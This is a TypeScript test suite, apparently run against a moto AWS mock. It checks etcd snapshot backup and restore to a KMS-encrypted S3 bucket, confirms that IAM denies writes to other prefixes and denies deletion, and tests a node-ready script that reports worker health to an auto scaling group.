  const env = (m: Machine) => ({ ETCDCTL: path.join(m.bin, "etcdctl") });

  it("the leader's snapshot lands under its key, encrypted with the cluster's KMS key, as a new version; a restore brings back its bytes", async () => {
    const m = member();
    await moto.enforceIam(true);
    const backup = m.exec("etcd-backup.sh", [], writer, env(m));
    expect(backup.stderr).toMatch(/uploaded s3:\/\//);
    expect(backup.status).toBe(0);
    await moto.enforceIam(false);
    const objects = moto.python<Array<{ key: string; sse: string; kms: string; bucketKey: boolean; version: string; body: string }>>(
      `s3 = client("s3")
out = []
for o in s3.list_objects_v2(Bucket=args["bucket"], Prefix=args["prefix"])["Contents"]:
    h = s3.get_object(Bucket=args["bucket"], Key=o["Key"])
    out.append({"key": o["Key"], "sse": h.get("ServerSideEncryption"), "kms": h.get("SSEKMSKeyId"), "bucketKey": h.get("BucketKeyEnabled", False), "version": h.get("VersionId"), "body": h["Body"].read().decode()})`,
      { bucket: BUCKET, prefix: `${SNAPSHOT_PREFIX}/${NODE}/` },
    );
    expect(objects).toHaveLength(1);
    const [o] = objects;
    expect(o.key).toMatch(new RegExp(`^${SNAPSHOT_PREFIX}/${NODE.replace(/\./g, "\\.")}/\\d{8}T\\d{6}Z\\.db$`));
    // The key named on the command line, not S3's AWS managed key.
    expect({ sse: o.sse, kms: o.kms }).toEqual({ sse: "aws:kms", kms: kmsKeyArn });
    expect(o.version).toMatch(/^[A-Za-z0-9._-]+$/);
    expect(o.version).not.toBe("null");
    expect(o.body.startsWith("ETCD-SNAPSHOT\n")).toBe(true);
    expect(fs.readdirSync(m.backupDir)).toEqual([]);

    await moto.enforceIam(true);
    const restore = m.exec("etcd-restore.sh", [o.key], writer, env(m));
    expect(restore.stderr).toContain(`restored ${NODE} from s3://${BUCKET}/${o.key}`);
    expect(restore.status).toBe(0);
    expect(fs.readFileSync(path.join(m.data, "member/snap/db"), "utf8")).toBe(o.body);
    expect(fs.readdirSync(path.join(m.kube, "manifests"))).toEqual(["etcd.yaml"]);
  }, 90000);

  it("a role whose policy covers another prefix gets AccessDenied on each of three uploads: exit 11, nothing stored", async () => {
    const m = member();
    const other = moto.user("other-prefix-writer", backupWritePolicy(`arn:aws:s3:::${BUCKET}`, "other-snapshots", kmsKeyArn, REGION));
    const before = moto.python<number>(`out = client("s3").list_objects_v2(Bucket=args["bucket"]).get("KeyCount", 0)`, { bucket: BUCKET });
    await moto.enforceIam(true);
    const r = m.exec("etcd-backup.sh", [], other, env(m));
    expect(r.status).toBe(EXIT.s3);
    expect(r.stderr).toContain("An error occurred (AccessDenied) when calling the PutObject operation");
    expect(r.stderr).toContain("aws: failed 3 times, giving up");
    await moto.enforceIam(false);
    expect(moto.python<number>(`out = client("s3").list_objects_v2(Bucket=args["bucket"]).get("KeyCount", 0)`, { bucket: BUCKET })).toBe(before);
    expect(fs.readdirSync(m.backupDir)).toEqual([]);
  }, 60000);

  it("the etcd role may not delete a snapshot (S3's AccessDenied)", async () => {
    await moto.enforceIam(true);
    const r = spawnSync(path.join(AWS_BIN, "aws"), ["s3", "rm", `s3://${BUCKET}/${SNAPSHOT_PREFIX}/${NODE}/20260101T000000Z.db`], {
      env: { PATH: "/usr/bin:/bin", HOME: os.tmpdir(), ...moto.env(writer) },
      encoding: "utf8",
    });
    expect(r.status).not.toBe(0);
    expect(r.stderr).toContain("AccessDenied");
  }, 30000);

  it("restoring a key that is not in the bucket: S3's 404 on each of three attempts, exit 11, the member untouched", async () => {
    const m = member();
    await moto.enforceIam(true);
    const r = m.exec("etcd-restore.sh", [`${SNAPSHOT_PREFIX}/${NODE}/20260101T000000Z.db`], writer, env(m));
    expect(r.status).toBe(EXIT.s3);
    expect(r.stderr).toContain("(404) when calling the HeadObject operation");
    expect(fs.readdirSync(path.join(m.kube, "manifests"))).toEqual(["etcd.yaml"]);
    expect(fs.existsSync(m.data)).toBe(false);
  }, 60000);
});

describe("node-ready.sh reports to the worker's own auto scaling group", () => {
  // moto 5.2.5 puts every instance of a group InService at once and implements neither
  // CompleteLifecycleAction nor the Auto Scaling resource tags in IAM conditions: the path of a
  // machine no hook held runs here with the real AWS CLI; the Pending:Wait path and the report's
  // conditioned permission are covered by test/bootstrap-scripts.test.ts and test/iam.test.ts.
  const GROUP = "dev-general-0001";
  const STUBS = path.join(__dirname, "stubs");
  let instanceId: string;
  let worker: Credentials;
  beforeAll(() => {
    instanceId = moto.python<string>(
      `ec2 = client("ec2")
ami = ec2.describe_images()["Images"][0]["ImageId"]
ec2.create_launch_template(LaunchTemplateName="dev-general-lt", LaunchTemplateData={"ImageId": ami, "InstanceType": "t3.micro"})
asg = client("autoscaling")
asg.create_auto_scaling_group(AutoScalingGroupName=args["group"], LaunchTemplate={"LaunchTemplateName": "dev-general-lt", "Version": "1"},
    MinSize=1, MaxSize=3, DesiredCapacity=1, AvailabilityZones=[args["region"] + "a"],
    Tags=[{"Key": "kubeadm-ha/cluster", "Value": "dev", "PropagateAtLaunch": False, "ResourceId": args["group"], "ResourceType": "auto-scaling-group"}])
out = asg.describe_auto_scaling_groups(AutoScalingGroupNames=[args["group"]])["AutoScalingGroups"][0]["Instances"][0]["InstanceId"]`,
      { group: GROUP, region: REGION },
    );
    worker = moto.user("worker-launch-hook", workerLaunchHookPolicy("dev"));
  });

  /** A worker with the launch hook in node.env; IMDS and kubectl are stubs, the AWS CLI is real. */
  function workerMachine(ready: "True" | "False"): { m: Machine; env: Record<string, string> } {
    const m = new Machine({ LAUNCH_HOOK: "kubeadm-ha-node-ready" }, ["lib.sh", "node-ready.sh"]);
    const state = path.join(m.root, "stub-state");
    fs.mkdirSync(state);
    fs.writeFileSync(path.join(state, "node-ready"), ready);
    for (const [cmd, file] of [["curl", "curl.sh"], ["kubectl", "kubectl.sh"], ["stub-lib.sh", "stub-lib.sh"]])
      fs.copyFileSync(path.join(STUBS, file), path.join(m.bin, cmd));
    for (const cmd of ["curl", "kubectl"]) fs.chmodSync(path.join(m.bin, cmd), 0o755);
    fs.mkdirSync(m.kube, { recursive: true });
    fs.writeFileSync(path.join(m.kube, "kubelet.conf"), "apiVersion: v1\nkind: Config\n");
    return { m, env: { STUB_STATE: state, STUB_IMDS_INSTANCE_ID: instanceId } };
  }
  const health = () =>
    moto.python<string>(`out = client("autoscaling").describe_auto_scaling_instances(InstanceIds=[args["id"]])["AutoScalingInstances"][0]["HealthStatus"]`, { id: instanceId });

  it("Ready and already in service: finds its group with the worker's policy enforced, and reports nothing", async () => {
    const { m, env } = workerMachine("True");
    await moto.enforceIam(true);
    const r = m.exec("node-ready.sh", ["ready"], worker, env);
    expect(r.stderr).toContain(`${instanceId} is already in service in ${GROUP} (no hook held it): nothing to report`);
    expect(r.status).toBe(0);
    await moto.enforceIam(false);
    expect(health().toUpperCase()).toBe("HEALTHY");
  });

  it("a failed bootstrap on a machine in service marks it Unhealthy, which the group sees", () => {
    const { m, env } = workerMachine("False");
    const r = m.exec("node-ready.sh", ["failed"], undefined, env);
    expect(r.stderr).toContain(`no hook holds ${instanceId} (in service in ${GROUP}): marking it Unhealthy so the group replaces it`);
    expect(r.status).toBe(0);
    // AWS answers HEALTHY or UNHEALTHY; moto answers in the case of set-instance-health's values.
    expect(health().toUpperCase()).toBe("UNHEALTHY");
  });
});
